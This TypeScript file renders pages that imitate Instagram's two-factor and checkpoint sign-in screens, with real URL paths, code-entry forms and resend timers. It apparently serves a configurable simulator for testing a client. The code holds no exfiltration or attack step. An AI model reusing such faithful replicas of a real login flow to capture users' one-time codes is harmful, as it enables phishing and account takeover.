import type { Answer } from '../http/answer.ts';
import type { Exchange } from '../http/exchange.ts';
import { resendInSeconds, waysOf } from '../sign-in/sign-in-flow.ts';
import type { CodeBy, Flow } from '../state/model.ts';
import { csrfField, page, words } from './layout.ts';
import { h, type Markup, raw } from './markup.ts';
import type { Word } from './words.ts';

export type CodeNote = 'wrongCode' | 'oldCode' | 'codeOnItsWay' | 'tooEarly' | 'legacyWrong' | null;

const WAY_NAMES: Record<CodeBy, Word> = { totp: 'byApp', text: 'byText', whatsapp: 'byWhatsapp', email: 'byEmail' };
const WAY_TEXTS: Record<CodeBy, Word> = {
  totp: 'twoFactorApp',
  text: 'twoFactorText',
  whatsapp: 'whatsappText',
  email: 'checkEmailText',
};

/** `/accounts/login/two_factor`. */
export function oldTwoFactorPage(exchange: Exchange, flow: Flow, note: CodeNote): Answer {
  const say = words(exchange);
  const here = `/accounts/login/two_factor?next=${encodeURIComponent(flow.next)}`;
  const content = h`<div class="card"><h1 class="logo">Instagram</h1><h2>${say('twoFactorTitle')}</h2><p>${say(WAY_TEXTS[flow.by])}</p>
<form method="post" action="${here}">${csrfField(exchange)}${field(exchange, flow, say('securityCode'), h`type="tel" name="verificationCode" autocomplete="off"`)}
<label><input type="checkbox" name="trust" checked> ${say('trust')}</label><button type="submit">${say('confirm')}</button></form>
${noteLine(say, note)}${flow.by !== 'totp' && resendForm(exchange, flow, here, say('resend'))}${otherWays(exchange, flow, here)}</div>`;
  return page(exchange, { title: say('twoFactorTitle'), content });
}

/** `/two_step_verification/…`. */
export function twoStepPage(exchange: Exchange, flow: Flow, note: CodeNote): Answer {
  const say = words(exchange);
  const here = `/two_step_verification/two_factor/?encrypted_context=${flow.id}&flow=two_factor_login`;
  const title =
    flow.by === 'totp' ? say('twoStepTitle') : flow.by === 'whatsapp' ? say('whatsappTitle') : say('twoStepText');
  const content = h`<div class="card"><h2>${title}</h2><p>${say(WAY_TEXTS[flow.by])}</p>
<form method="post" action="${here}">${csrfField(exchange)}${field(exchange, flow, say('code'), h`type="text" name="code" autocomplete="one-time-code"`)}
<label><input type="checkbox" name="trust" checked> ${say('trust')}</label><button type="submit">${say('continue')}</button></form>
${noteLine(say, note)}${flow.by !== 'totp' && resendForm(exchange, flow, here, say('newCode'))}${otherWays(exchange, flow, here)}</div>`;
  return page(exchange, { title, content });
}

/** `/auth_platform/codeentry/`. */
export function codeEntryPage(exchange: Exchange, flow: Flow, note: CodeNote): Answer {
  const say = words(exchange);
  const here = `/auth_platform/codeentry/?apc=${flow.id}`;
  const byEmail = flow.by === 'email';
  const title = byEmail ? say('checkEmail') : say('checkPhone');
  const content = h`<div class="card"><h2>${title}</h2><p>${byEmail ? say('checkEmailText') : say('checkPhoneText')}</p>
<form method="post" action="${here}">${csrfField(exchange)}${field(exchange, flow, say('code'), h`type="text" name="c" autocomplete="one-time-code"`)}<button type="submit">${say('continue')}</button></form>
${noteLine(say, note)}${resendForm(exchange, flow, here, say('newCode'))}
<a class="way" href="/auth_platform/challengepicker/?apc=${flow.id}">${say('anotherWay')}</a></div>`;
  return page(exchange, { title, content });
}

/** `/auth_platform/challengepicker/`. */
export function challengePickerPage(exchange: Exchange, flow: Flow): Answer {
  const say = words(exchange);
  const ways = waysOf(flow).map(
    (way) =>
      h`<label><input type="radio" name="way" value="${way}" ${way === flow.by && h`checked`}> ${say(WAY_NAMES[way])}</label>`,
  );
  const content = h`<div class="card"><h2>${say('pickerTitle')}</h2><form method="post" action="/auth_platform/challengepicker/?apc=${flow.id}">${csrfField(exchange)}${ways}<button type="submit">${say('continue')}</button></form></div>`;
  return page(exchange, { title: say('pickerTitle'), content });
}

/** First the choice, then the code (docs/facts/sign-in.md#checkpoints). */
export function legacyChallengePage(exchange: Exchange, flow: Flow, note: CodeNote): Answer {
  const say = words(exchange);
  const here = `/challenge/${flow.account.id}/${flow.id}/`;
  const choose = h`<h2>${say('legacyTitle')}</h2><p>${say('legacyText')}</p><form method="post" action="${here}">${csrfField(exchange)}
<label><input type="radio" name="choice" value="1" ${flow.by === 'email' && h`checked`}> ${say('byEmail')}: m*****s@example.org</label>
<label><input type="radio" name="choice" value="0" ${flow.by === 'text' && h`checked`}> ${say('byText')}: +380 ** *** **79</label><button type="submit">${say('sendCode')}</button></form>`;
  const enter = h`<h2>${say('enterCode')}</h2><p>${flow.by === 'email' ? say('checkEmailText') : say('checkPhoneText')}</p><form method="post" action="${here}">${csrfField(exchange)}
${field(exchange, flow, say('securityCode'), h`type="tel" name="security_code"`)}<button type="submit">${say('submit')}</button></form>
${noteLine(say, note)}${resendForm(exchange, flow, here, say('newCode'))}`;
  return page(exchange, {
    title: say('legacyTitle'),
    content: h`<div class="card">${flow.sentAt === null ? choose : enter}</div>`,
  });
}

function field(exchange: Exchange, flow: Flow, label: string, kind: Markup): Markup {
  const { codeBoxes, codeLength } = exchange.world.switches.screens;
  if (!codeBoxes) return h`<label>${label}<input ${kind} aria-label="${label}" ${fieldRules(exchange, flow)}></label>`;
  const box = h`<input type="text" inputmode="numeric" maxlength="1" data-box>`;
  const boxes = Array.from({ length: flow.by === 'totp' ? 6 : codeLength }, () => box);
  return h`<span>${boxes}</span><input ${kind} hidden><script>${raw(BOXES)}</script>`;
}

const BOXES = `
const boxes = [...document.querySelectorAll('[data-box]')];
addEventListener('input', () => {
  const code = boxes.map(({ value }) => value).join('');
  boxes.at(-1).form.querySelector('input[hidden]:not([type=hidden])').value = code;
  if (code.length === boxes.length) boxes[0].form.requestSubmit();
});`;

function fieldRules(exchange: Exchange, flow: Flow): Markup {
  const { codeLength, codeLetters } = exchange.world.switches.screens;
  const sent = flow.by !== 'totp';
  if (sent && codeLetters)
    return h`minlength="${codeLength}" maxlength="${codeLength}" inputmode="text" autocapitalize="characters"`;
  if (sent && codeLength !== 6) return h`minlength="${codeLength}" maxlength="${codeLength}" inputmode="numeric"`;
  return h`inputmode="numeric" maxlength="8"`;
}

function resendForm(exchange: Exchange, flow: Flow, here: string, label: string): Markup {
  const left = exchange.world.switches.screens.countdown ? resendInSeconds(exchange.world, flow) : 0;
  if (left === 0) return otherForm(exchange, here, 'resend', '1', label);
  const say = words(exchange);
  const { language } = exchange.world.switches.screens;
  const button = h`<button type="submit" class="quiet" name="resend" value="1" disabled data-left="${left}" data-label="${label}" data-before="${say('resendIn')}" data-unit="${language === 'ru' ? ` ${say('seconds')}` : ''}"></button>`;
  return h`<form method="post" action="${here}">${csrfField(exchange)}${button}</form><script>${raw(COUNT_DOWN)}</script>`;
}

const COUNT_DOWN = `
for (const button of document.querySelectorAll('button[data-left]')) {
  const { label, before, unit } = button.dataset; let left = Number(button.dataset.left);
  const face = () => unit ? left + unit : Math.floor(left / 60) + ':' + String(left % 60).padStart(2, '0');
  const show = () => { button.disabled = left > 0; button.textContent = left > 0 ? before + ' ' + face() : label; if (left > 0) setTimeout(show, 1000); left -= 1; };
  show();
}`;

function noteLine(say: (word: Word) => string, note: CodeNote): Markup | null {
  if (note === null) return null;
  const isError = note !== 'codeOnItsWay';
  return h`<p id="twoFactorErrorAlert" role="${isError ? 'alert' : 'status'}">${say(note)}</p>`;
}

function otherWays(exchange: Exchange, flow: Flow, here: string): Markup[] {
  const say = words(exchange);
  const others = waysOf(flow).filter((way) => way !== flow.by);
  if (others.length === 0) return [];
  const forms = others.map((way) => otherForm(exchange, here, 'way', way, say(WAY_NAMES[way])));
  return [h`<details><summary>${say('anotherWay')}</summary>${forms}</details>`];
}

function otherForm(exchange: Exchange, to: string, name: string, value: string, label: string): Markup {
  return h`<form method="post" action="${to}">${csrfField(exchange)}<button type="submit" class="quiet" name="${name}" value="${value}">${label}</button></form>`;
}
